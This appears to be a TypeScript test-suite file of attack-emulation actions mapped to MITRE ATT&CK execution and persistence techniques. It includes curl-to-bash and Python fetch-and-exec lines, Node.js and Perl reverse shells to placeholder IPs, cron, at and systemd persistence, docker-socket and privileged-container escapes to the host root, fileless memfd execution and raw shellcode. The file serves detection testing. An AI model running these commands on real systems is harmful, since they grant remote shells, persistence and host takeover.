import type { Action } from '../action.ts'
import { received, server, webServer } from '../loopback-server.ts'
import { standIn } from './stand-in.ts'

export const execution: readonly Action[] = [
  {
    id: 'blind-script-made-and-run',
    title: 'Shell script written, made executable and run',
    technique: 'T1059.004',
    run: `sh -c "echo 'echo Hello from the shell' > /tmp/art.sh"
sh -c "echo 'ping -c 4 127.0.0.1' >> /tmp/art.sh"
chmod +x /tmp/art.sh
sh /tmp/art.sh; :`,
    effect: 'grep -q Hello $OUT',
  },
  {
    id: 'blind-curl-to-bash',
    title: 'Script from the web in a pipe to bash',
    technique: 'T1059.004',
    needs: ['curl'],
    before: webServer(8080, 'echo stage two\n'),
    run: 'curl -sO http://198.51.100.7:8080/echo.sh; curl -s http://198.51.100.7:8080/echo.sh | bash',
    effect: 'grep -q "stage two" $OUT',
  },
  {
    id: 'blind-encoded-pipe-to-shell',
    title: 'Base64 of a command in a pipe to bash',
    technique: 'T1059.004',
    shell: 'bash',
    run: `SCR=$(echo 'id; uname -r' | base64)
echo $SCR | base64 -d | bash`,
    effect: 'grep -q uid= $OUT',
  },
  {
    id: 'blind-new-login-shell',
    title: 'Login shell of an account changed, and used by su',
    technique: 'T1059.004',
    needs: ['useradd', 'su'],
    run: `useradd -M -s /bin/bash art
su art -c 'set | grep -i shell; echo $-'
chsh -s /bin/sh art 2>/dev/null
su art -c env; :`,
    effect: 'grep -q SHELL $OUT',
  },
  {
    id: 'blind-awk-shell',
    title: 'Shell out of awk',
    technique: 'T1059.004',
    needs: ['awk'],
    run: `awk 'BEGIN {system("/bin/sh -c id")}'`,
    effect: 'grep -q uid= $OUT',
  },
  {
    id: 'blind-busybox-shell',
    title: 'Shell of busybox, which runs a command',
    technique: 'T1059.004',
    needs: ['busybox'],
    run: `busybox sh -c 'echo hello from busybox; id'`,
    effect: 'grep -q uid= $OUT',
  },
  {
    id: 'blind-harvest-env-shells',
    title: 'Which shells there are, and their environment',
    technique: 'T1059.004',
    run: 'cat /etc/shells; env | grep -i shell; uname -srm; printf "%s\n" "$0"',
    effect: 'grep -q /bin/sh $OUT',
  },
  {
    id: 'blind-server-starts-shell',
    title: 'A web server starts a shell',
    technique: 'T1059.004',
    program: {
      language: 'c',
      text: '#include <stdlib.h>\n#include <sys/prctl.h>\nint main() { prctl(PR_SET_NAME, "httpd"); return system("ls > /dev/null; id"); }',
    },
    run: 'cp $PROGRAM /usr/sbin/httpd; /usr/sbin/httpd --loglevel info',
    effect: 'grep -q uid= $OUT',
  },
  {
    id: 'blind-python-fetched',
    title: 'Python fetches a script and executes it',
    technique: 'T1059.006',
    needs: ['python3'],
    before: webServer(8080, 'import os; print("remote", os.getuid())\n'),
    run: `python3 -c 'import urllib.request; exec(urllib.request.urlopen("http://198.51.100.7:8080/art.py").read())'`,
    effect: 'grep -q remote $OUT',
  },
  {
    id: 'blind-python-written-and-run',
    title: 'Python program written by echo, and run',
    technique: 'T1059.006',
    needs: ['python3'],
    run: `echo 'import os' > /tmp/T.py
echo 'os.system("id")' >> /tmp/T.py
python3 /tmp/T.py`,
    effect: 'grep -q uid= $OUT',
  },
  {
    id: 'blind-python-pty',
    title: 'Terminal by pty.spawn of Python',
    technique: 'T1059.006',
    needs: ['python3'],
    run: `python3 -c "import pty;pty.spawn(['/bin/sh','-c','id'])"`,
    effect: 'grep -q uid= $OUT',
  },
  {
    id: 'blind-python-compiled',
    title: 'Python bytecode compiled and run',
    technique: 'T1059.006',
    needs: ['python3'],
    run: `echo 'print("compiled")' > /tmp/m.py
python3 -c 'import py_compile; py_compile.compile("/tmp/m.py", cfile="/tmp/m.pyc")'
python3 /tmp/m.pyc`,
    effect: 'grep -q compiled $OUT',
  },
  {
    id: 'blind-node-child',
    title: 'Command by child_process of Node.js',
    technique: 'T1059.007',
    needs: ['node'],
    run: `node -e 'require("child_process").exec("id", (e, out) => console.log(out))'`,
    effect: 'grep -q uid= $OUT',
  },
  {
    id: 'blind-node-reverse',
    title: 'Reverse shell by Node.js',
    technique: 'T1059.007',
    needs: ['node'],
    before: server(4444, 'id; exit\n'),
    run: `timeout 3 node -e 'const s=require("net").connect(4444,"198.51.100.7",()=>{const p=require("child_process").spawn("/bin/sh",[]);s.pipe(p.stdin);p.stdout.pipe(s)})'; :`,
    effect: received('uid='),
  },
  {
    id: 'blind-lua-command',
    title: 'Command by Lua',
    technique: 'T1059.011',
    before: standIn('lua'),
    run: `lua -e 'os.execute("id")'`,
  },
  {
    id: 'blind-perl-reverse',
    title: 'Reverse shell by Perl',
    technique: 'T1059',
    needs: ['perl'],
    before: server(4444, 'id; exit\n'),
    run: `timeout 3 perl -e 'use Socket;$i="203.0.113.9";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'; :`,
    effect: received('uid='),
  },
  {
    id: 'blind-cron-replaced',
    title: 'Crontab replaced by one with a job of each minute',
    technique: 'T1053.003',
    before: standIn('crontab'),
    run: `crontab -l > /tmp/notevil; echo "* * * * * /tmp/evil.sh" > /tmp/persistevil && crontab /tmp/persistevil`,
    effect: 'grep -q evil /tmp/persistevil',
  },
  {
    id: 'blind-cron-hourly',
    title: 'Script in the hourly, daily and monthly folders of cron',
    technique: 'T1053.003',
    before: 'mkdir -p /etc/cron.hourly /etc/cron.daily /etc/cron.monthly',
    run: `echo "echo 'persist' >> /tmp/log" > /etc/cron.daily/persistevil
echo "echo 'persist' >> /tmp/log" > /etc/cron.hourly/persistevil
cp /etc/cron.daily/persistevil /etc/cron.monthly/persistevil`,
    effect: 'grep -q persist /etc/cron.monthly/persistevil',
  },
  {
    id: 'blind-spool-crontab',
    title: 'Job in a file of the spool of cron',
    technique: 'T1053.003',
    run: `echo "* * * * * /tmp/evil.sh" >> /var/spool/cron/crontabs/root`,
    effect: 'grep -q evil /var/spool/cron/crontabs/root',
  },
  {
    id: 'blind-spool-crontab-python',
    title: 'The same by Python, by a temporary file and a rename',
    technique: 'T1053.003',
    needs: ['python3'],
    run: `python3 - <<'X'
import os
open("/var/spool/cron/crontabs/tmp.1", "w").write("@reboot /var/tmp/u\\n")
os.rename("/var/spool/cron/crontabs/tmp.1", "/var/spool/cron/crontabs/ann")
X`,
    effect: 'grep -q reboot /var/spool/cron/crontabs/ann',
  },
  {
    id: 'blind-at-job',
    title: 'Job by at',
    technique: 'T1053.002',
    before: standIn('at', 'atd'),
    run: `echo 'echo "Hello from at"' | at now + 1 minutes; at -l`,
  },
  {
    id: 'blind-at-spool',
    title: 'Job put into the spool of at',
    technique: 'T1053.002',
    before: 'mkdir -p /var/spool/cron/atjobs',
    run: `printf '#!/bin/sh\\nid > /tmp/x\\n' > /var/spool/cron/atjobs/a0000101b1a2c3; chmod 700 /var/spool/cron/atjobs/a0000101b1a2c3`,
    effect: 'test -x /var/spool/cron/atjobs/a0000101b1a2c3',
  },
  {
    id: 'blind-systemd-timer',
    title: 'Service and timer of systemd written, and started',
    technique: 'T1053.006',
    before: standIn('systemctl'),
    run: `echo "[Unit]" > /etc/systemd/system/art-timer.service
echo "ExecStart=/bin/touch /tmp/art-marker" >> /etc/systemd/system/art-timer.service
printf '[Timer]\\nOnCalendar=*-*-* *:*:00\\n[Install]\\nWantedBy=timers.target\\n' > /etc/systemd/system/art-timer.timer
systemctl start art-timer.timer
systemctl enable art-timer.timer
systemctl daemon-reload`,
    effect: 'grep -q OnCalendar /etc/systemd/system/art-timer.timer',
  },
  {
    id: 'blind-systemd-run-timer',
    title: 'Transient timer by systemd-run',
    technique: 'T1053.006',
    before: standIn('systemd-run'),
    run: `systemd-run --unit=Atomic-Red-Timer --on-calendar '*:0/1' /bin/sh -c 'echo "$(date) $(whoami)" >>/tmp/log'`,
  },
  {
    id: 'blind-systemd-user-timer',
    title: 'Timer of a user',
    technique: 'T1053.006',
    as: 'ann',
    run: `mkdir -p ~/.config/systemd/user
printf '[Timer]\\nOnBootSec=1\\n' > ~/.config/systemd/user/sync.timer`,
    effect: 'test -s /home/ann/.config/systemd/user/sync.timer',
  },
  {
    id: 'blind-k8s-cronjob',
    title: 'CronJob created by kubectl',
    technique: 'T1053.007',
    before: standIn('kubectl'),
    run: `kubectl get cronjobs
kubectl create -f /tmp/cron.yaml
kubectl create cronjob backup --image=busybox --schedule='* * * * *' -- /bin/sh -c id`,
  },
  {
    id: 'blind-kubectl-exec',
    title: 'Shell in a pod by kubectl exec',
    technique: 'T1609',
    before: standIn('kubectl'),
    run: 'kubectl exec -n default -it busybox -- /bin/sh -c "uname -a"',
  },
  {
    id: 'blind-docker-exec',
    title: 'Command in a container by docker exec',
    technique: 'T1609',
    before: standIn('docker'),
    run: 'docker run --name art --rm -itd ubuntu bash /tmp/output.sh; docker exec -i art bash -c "cat /etc/passwd"',
  },
  {
    id: 'blind-privileged-container',
    title: 'Privileged container with the root of the host',
    technique: 'T1610',
    before: standIn('docker'),
    run: 'docker run -v /:/host --privileged --net=host --pid=host -it alpine chroot /host /bin/bash',
  },
  {
    id: 'blind-docker-api',
    title: 'Container created by the socket of docker',
    technique: 'T1610',
    needs: ['curl', 'python3'],
    before: `python3 -c '
import os, socket
s = socket.socket(socket.AF_UNIX); s.bind("/run/docker.sock"); s.listen(9)
if os.fork() == 0:
    while True:
        c, _ = s.accept(); c.recv(65536); c.send(b"HTTP/1.0 201 OK\\r\\nContent-Length: 4\\r\\n\\r\\ndone"); c.close()
' >/dev/null 2>&1`,
    run: `curl -s -XPOST --unix-socket /run/docker.sock -d '{"Image":"alpine","Cmd":["/bin/sh"],"HostConfig":{"Binds":["/:/mnt"]}}' -H 'Content-Type: application/json' http://localhost/containers/create`,
    effect: 'grep -q done $OUT',
  },
  {
    id: 'blind-native-memfd',
    title: 'C program executes from an anonymous file',
    technique: 'T1620',
    program: {
      language: 'c',
      text: `#define _GNU_SOURCE
#include <sys/mman.h>
#include <fcntl.h>
#include <unistd.h>
#include <stdio.h>
int main() {
  char buf[65536]; int n, in = open("/bin/echo", O_RDONLY), fd = memfd_create("", 0);
  while ((n = read(in, buf, sizeof buf)) > 0) write(fd, buf, n);
  char *argv[] = {"kworker", "fileless", 0}, *env[] = {0};
  fexecve(fd, argv, env); return 1;
}`,
    },
    run: '$PROGRAM',
    effect: 'grep -q fileless $OUT',
  },
  {
    id: 'blind-python-shellcode',
    title: 'Python maps executable memory and jumps into it',
    technique: 'T1620',
    needs: ['python3'],
    requires: '[ "$(uname -m)" = x86_64 ]',
    run: `python3 -c '
import ctypes, mmap
m = mmap.mmap(-1, 4096, prot=7)
m.write(b"\\xb8\\x2a\\x00\\x00\\x00\\xc3")
f = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))
print("result", f())'`,
    effect: 'grep -q "result 42" $OUT',
  },
  {
    id: 'blind-shared-module',
    title: 'Shared library of the attacker loaded by Python',
    technique: 'T1129',
    needs: ['gcc', 'python3'],
    before: `echo '#include <stdio.h>
__attribute__((constructor)) void f(void) { puts("loaded"); fflush(stdout); }' >/run/l.c; gcc -shared -fPIC -o /tmp/libart.so /run/l.c`,
    run: `python3 -c 'import ctypes; ctypes.CDLL("/tmp/libart.so")'`,
    effect: 'grep -q loaded $OUT',
  },
  {
    id: 'blind-service-execution',
    title: 'Command run as a service by systemctl',
    technique: 'T1569.003',
    before: standIn('systemctl'),
    run: `printf '[Service]\\nExecStart=/bin/sh -c id\\n' > /run/art.service; systemctl link /run/art.service; systemctl start art.service`,
  },
  {
    id: 'blind-exec-hidden-tmp',
    title: 'Program started out of a hidden folder of /tmp',
    technique: 'T1204.002',
    run: 'mkdir /tmp/.X11; cp /bin/ls /tmp/.X11/invoice.pdf; chmod 755 /tmp/.X11/invoice.pdf; /tmp/.X11/invoice.pdf /',
    effect: 'grep -q etc $OUT',
  },
  {
    id: 'blind-exec-dev-shm',
    title: 'Program copied to /dev/shm and started',
    technique: 'T1059.004',
    run: `printf '#!/bin/sh\\nid\\n' > /dev/shm/run-me; chmod +x /dev/shm/run-me; /dev/shm/run-me`,
    effect: 'grep -q uid= $OUT',
  },
]
